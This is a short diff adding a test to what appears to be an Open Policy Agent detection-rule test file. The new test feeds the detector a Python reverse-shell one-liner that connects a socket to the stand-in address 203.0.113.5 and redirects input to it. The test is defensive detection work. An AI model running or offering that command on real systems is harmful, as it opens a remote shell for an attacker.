@@ -35,3 +35,7 @@ test_leaves_others[command] if {
 	]
 	count(found(testing.commanded(command))) == 0
 }
+
+test_points_at_the_arguments if {
+	testing.paths(found(testing.commanded(["python3", "-c", "import socket,os,pty;s=socket.socket();s.connect(('203.0.113.5',1));os.dup2(s.fileno(),0)"]))) == {"/event/process/args"}
+}
